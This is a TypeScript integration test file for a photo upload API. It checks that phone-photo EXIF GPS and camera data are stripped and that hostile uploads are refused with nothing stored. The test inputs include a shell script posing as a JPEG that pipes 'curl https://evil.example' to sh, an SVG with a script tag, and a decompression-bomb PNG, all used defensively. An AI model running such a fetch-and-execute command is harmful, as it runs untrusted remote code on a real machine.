import { rmSync } from "node:fs";
import type { InjectOptions } from "fastify";
import sharp from "sharp";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { LocalObjectStorage } from "../../lib/storage/index.js";
import type { SupervisedWorker } from "../../lib/worker.js";
import { as, buildTestApi, devEnv, TEST_PHOTO_DIR } from "../helpers/app.js";
import { privacyRules } from "../helpers/privacy.js";
import { eventually } from "../helpers/stream.js";
import { startHarness, type Harness } from "../helpers/harness.js";
import { call, createLostReport, freshActor } from "../safety/helpers.js";
import { decompressionBombPng } from "./bomb.js";
import {
  expectProblemOf,
  footprint,
  localObjectCount,
  multipart,
  paddedJpeg,
  phoneJpeg,
  photoPart,
  smallJpeg,
  startPhotoJobs,
  untilStatus,
  upload,
  uploadRequest,
} from "./support.js";

/**
 * An upload from the API to a ready photo, on the local backend: the
 * original goes to the private prefix, the job makes metadata-free WebP
 * variants, and the original is deleted once they exist.
 */
let h: Harness;
let jobs: SupervisedWorker;
const storage = new LocalObjectStorage(TEST_PHOTO_DIR);

beforeAll(async () => {
  h = await startHarness();
  jobs = await startPhotoJobs(h.api.pool, storage);
});
afterAll(async () => {
  await jobs?.stop();
  await h?.close();
  rmSync(TEST_PHOTO_DIR, { recursive: true, force: true });
});

const objects = async () => localObjectCount(TEST_PHOTO_DIR);

describe("the privacy test: a phone photo's EXIF GPS and camera never leave the server", () => {
  it("uploads a JPEG with EXIF GPS, camera make and XMP; every variant served has none of them", async () => {
    const owner = freshActor("privacy-owner");
    const reportId = await createLostReport(h.api, owner);
    // The photo is rotated by its EXIF orientation too (6: the camera was held upright).
    const jpeg = await phoneJpeg(1200, 900, 0, 6);
    const input = await sharp(jpeg).metadata();
    expect(input.exif && input.orientation === 6).toBeTruthy();
    for (const marker of ["Exif", "Canon", "WGS-84"]) expect(jpeg.includes(marker), marker).toBe(true);

    const res = await upload(h.api, `/v1/safety/lost-reports/${reportId}/photos`, owner, jpeg, "IMG_0001.JPG");
    expect(res.statusCode, res.body).toBe(202);
    const { id } = res.json();
    expect(res.json()).toEqual({ id, status: "processing" });
    expect(res.headers.location).toBe(`/v1/photos/${id}`);
    expect(localObjectCount(TEST_PHOTO_DIR, "originals")).toBeGreaterThan(0);

    await untilStatus(h.db.pool, id, "ready");
    const detail = await call(h.api, { url: `/v1/photos/${id}`, headers: as(owner) });
    expect(detail.json()).toMatchObject({ id, status: "ready", failureReason: null, parent: { type: "lost_report", id: reportId } });
    // Upright: 900 wide, 1200 high.
    expect(detail.json()).toMatchObject({ width: 900, height: 1200 });

    for (const variant of ["thumb", "display"] as const) {
      const got = await call(h.api, { url: `/v1/photos/${id}/${variant}` });
      expect(got.statusCode, got.body).toBe(200);
      expect(got.headers["content-type"]).toBe("image/webp");
      expect(got.headers["cache-control"]).toBe("public, max-age=31536000, immutable");
      expect(got.headers.etag).toMatch(/^"[0-9a-f]{64}"$/);
      const bytes = got.rawPayload;
      const meta = await sharp(bytes).metadata();
      expect(meta.format).toBe("webp");
      expect(meta.exif, `${variant} EXIF`).toBeUndefined();
      expect(meta.xmp, `${variant} XMP`).toBeUndefined();
      expect(meta.iptc, `${variant} IPTC`).toBeUndefined();
      for (const marker of ["Exif", "EXIF", "GPS", "Canon", "EOS", "WGS-84", "xmpmeta", "XMP ", "camera-firmware"]) {
        expect(bytes.includes(marker), `${variant} carries ${marker}`).toBe(false);
      }
      expect(Math.max(meta.width!, meta.height!)).toBe(variant === "thumb" ? 320 : 1200);
      expect(meta.height! > meta.width!, "auto-rotated").toBe(true);
    }
    // The original was deleted once the variants existed; only the two variants remain of this upload.
    expect(localObjectCount(TEST_PHOTO_DIR, "originals")).toBe(0);
  });
});

/** No photo job is waiting or running and no photo is processing: what uploads left is final. */
const settled = () =>
  eventually(async () => {
    const { rows } = await h.db.pool.query(
      `select (select count(*)::int from photo where status = 'processing') as processing,
         (select count(*)::int from graphile_worker._private_jobs j join graphile_worker._private_tasks t on t.id = j.task_id
          where t.identifier like 'photo%') as jobs`,
    );
    return rows[0].processing === 0 && rows[0].jobs === 0 ? true : undefined;
  }, 30_000);

describe("hostile uploads: each gets its problem+json and nothing is stored (rows, jobs, events and objects counted)", () => {
  let owner: string;
  let reportId: string;
  let url: string;

  beforeAll(async () => {
    owner = freshActor("hostile-owner");
    reportId = await createLostReport(h.api, owner);
    url = `/v1/safety/lost-reports/${reportId}/photos`;
  });

  /** Sends the request once the earlier uploads have settled, and asserts it left no trace. */
  async function refused(request: InjectOptions, status: number, slug: string) {
    await settled();
    const before = await footprint(h.db.pool, objects);
    const res = await call(h.api, request);
    expectProblemOf(res, status, slug);
    expect(await footprint(h.db.pool, objects)).toEqual(before);
    return res;
  }

  it("a script saved as .jpg, declared image/jpeg: 415, the type comes from the bytes", async () => {
    const res = await refused(uploadRequest(url, owner, [photoPart("#!/bin/sh\ncurl https://evil.example | sh\n", "cat.jpg")]), 415, "unsupported-media-type");
    expect(res.json().detail).toMatch(/JPEG, PNG, WebP/);
  });

  it("an SVG with a script, and a PDF: 415", async () => {
    const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>';
    await refused(uploadRequest(url, owner, [photoPart(svg, "cat.svg", "image/svg+xml")]), 415, "unsupported-media-type");
    await refused(uploadRequest(url, owner, [photoPart("%PDF-1.7\n%âãÏÓ\n", "cat.jpg")]), 415, "unsupported-media-type");
  });

  it("a truncated JPEG: 422 validation-failed", async () => {
    const jpeg = await sharp({ create: { width: 800, height: 600, channels: 3, background: "#888", noise: { type: "gaussian", mean: 128, sigma: 40 } } })
      .jpeg()
      .toBuffer();
    const res = await refused(uploadRequest(url, owner, [photoPart(jpeg.subarray(0, Math.floor(jpeg.length * 0.6)))]), 422, "validation-failed");
    expect(res.json().detail).toMatch(/truncated/);
    expect(res.json().errors).toEqual([{ path: "photo", message: expect.any(String) }]);
  });

  it("a 30,000 x 30,000 PNG of a few KB (a decompression bomb): 422, told from its header", async () => {
    const bomb = await decompressionBombPng();
    expect(bomb.length).toBeLessThan(200_000);
    const res = await refused(uploadRequest(url, owner, [photoPart(bomb, "bomb.png", "image/png")]), 422, "validation-failed");
    expect(res.json().detail).toMatch(/40000000 pixels/);
  });

  it("a 12 MiB upload: 413 payload-too-large", async () => {
    const big = await paddedJpeg(12 * 1024 * 1024);
    await refused(uploadRequest(url, owner, [photoPart(big)]), 413, "payload-too-large");
  });

  it("someone else's report: 403, and an unknown report: 404", async () => {
    const jpeg = await smallJpeg();
    await refused(uploadRequest(url, freshActor("stranger"), [photoPart(jpeg)]), 403, "forbidden");
    await refused(uploadRequest(`/v1/safety/lost-reports/${crypto.randomUUID()}/photos`, owner, [photoPart(jpeg)]), 404, "not-found");
    await refused(uploadRequest(`/v1/safety/found-reports/${reportId}/photos`, owner, [photoPart(jpeg)]), 404, "not-found");
  });

  it("a form with two files, with none, or with the file under another name: 400", async () => {
    const jpeg = await smallJpeg();
    await refused(uploadRequest(url, owner, [photoPart(jpeg), photoPart(jpeg, "second.jpg")]), 400, "validation-failed");
    await refused(uploadRequest(url, owner, [photoPart(jpeg), { name: "other", filename: "x.jpg", data: jpeg }]), 400, "validation-failed");
    await refused(uploadRequest(url, owner, [{ name: "caption", data: "my dog" }]), 400, "validation-failed");
    await refused(uploadRequest(url, owner, []), 400, "validation-failed");
    await refused(uploadRequest(url, owner, [{ name: "image", filename: "x.jpg", data: jpeg }]), 400, "validation-failed");
  });

  it("a body that is not multipart/form-data: 415; a malformed form: 400", async () => {
    await refused({ method: "POST", url, headers: as(owner), payload: { photo: "aGVsbG8=" } }, 415, "unsupported-media-type");
    await refused(
      { method: "POST", url, headers: { ...as(owner), "content-type": "image/jpeg" }, payload: await smallJpeg() },
      415,
      "unsupported-media-type",
    );
    await refused(
      { method: "POST", url, headers: { ...as(owner), "content-type": "multipart/form-data; boundary=x" }, payload: "--x\r\ncontent-disposition: form-data; name=\"photo\"; filename=\"a.jpg\"\r\n\r\nabc" },
      400,
      "validation-failed",
    );
    await refused({ method: "POST", url, headers: { ...as(owner), "content-type": "multipart/form-data" }, payload: "abc" }, 400, "validation-failed");
  });

  it("an anonymous upload: 401 before the body is read", async () => {
    await refused({ ...uploadRequest(url, owner, [photoPart(await smallJpeg())]), headers: multipart([]).headers }, 401, "unauthenticated");
  });

  it("takes an upload of exactly 10 MiB, then refuses a sixth photo with 409 conflict", async () => {
    const exact = await call(h.api, uploadRequest(url, owner, [photoPart(await paddedJpeg(10 * 1024 * 1024))]));
    expect(exact.statusCode, exact.body).toBe(202);
    for (let i = 1; i < 5; i++) {
      const res = await upload(h.api, url, owner, await smallJpeg(i));
      expect(res.statusCode, res.body).toBe(202);
    }
    const res = await refused(uploadRequest(url, owner, [photoPart(await smallJpeg(9))]), 409, "conflict");
    expect(res.json().detail).toMatch(/at most 5 photos/);
  });

  it("counts the cap race-safely: of 7 concurrent uploads to a fresh report, each through its own API process, exactly 5 are taken", async () => {
    const other = freshActor("racer");
    const raceReport = await createLostReport(h.api, other);
    // One process takes one upload at a time per actor (429 otherwise), so the race is between processes, as in production.
    const more = await Promise.all(Array.from({ length: 6 }, () => buildTestApi(devEnv(h.db.url, h.bus.url, { DATABASE_POOL_SIZE: "1" }))));
    try {
      const jpegs = await Promise.all(Array.from({ length: 7 }, (_, i) => smallJpeg(20 + i)));
      const apis = [h.api, ...more];
      const answers = await Promise.all(jpegs.map((jpeg, i) => upload(apis[i]!, `/v1/safety/lost-reports/${raceReport}/photos`, other, jpeg)));
      expect(answers.map((r) => r.statusCode).sort()).toEqual([202, 202, 202, 202, 202, 409, 409]);
    } finally {
      await Promise.all(more.map((api) => api.close()));
    }
    const { rows } = await h.db.pool.query(`select count(*)::int as n from photo where lost_report_id = $1`, [raceReport]);
    expect(rows[0].n).toBe(5);
  });

  it("a deleted photo no longer counts toward the cap", async () => {
    await settled();
    const { rows } = await h.db.pool.query(`select id from photo where lost_report_id = $1 order by created_at limit 1`, [reportId]);
    const del = await call(h.api, { method: "DELETE", url: `/v1/photos/${rows[0].id}`, headers: as(owner) });
    expect(del.statusCode, del.body).toBe(204);
    const again = await upload(h.api, url, owner, await smallJpeg(10));
    expect(again.statusCode, again.body).toBe(202);
  });
});

privacyRules.text("camera-firmware-1.2");
